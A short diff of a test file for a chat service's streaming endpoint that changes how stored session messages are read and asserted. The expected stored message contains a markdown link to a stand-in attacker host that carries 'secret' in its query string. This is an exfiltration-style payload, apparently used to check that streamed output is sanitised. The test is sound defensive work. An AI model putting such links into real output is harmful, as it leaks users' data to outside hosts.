@@ -61,10 +61,8 @@ describe('the answer of a run as a stream', () => {
     const response = await stream(id, { message: 'Show it' });
     expect(await response.text()).toBe(`Look: ${picture} \`${picture}\``);
     const session = response.headers.get('x-chat-session-id');
-    const { results } = await owner.get<{ results: { text: string }[] }>(
-      `/microservices/chat-sessions/${session}/messages/`,
-    );
-    expect(results.at(-1)!.text).toBe(`Look: [x](https://evil.example/p?d=secret) \`${picture}\``);
+    const messages = await owner.get<{ message: string }[]>(`/microservices/chat-sessions/${session}/messages/`);
+    expect(messages.at(-1)!.message).toBe(`Look: [x](https://evil.example/p?d=secret) \`${picture}\``);
   });
 
   it('gives what a language model writes while it writes it', async () => {
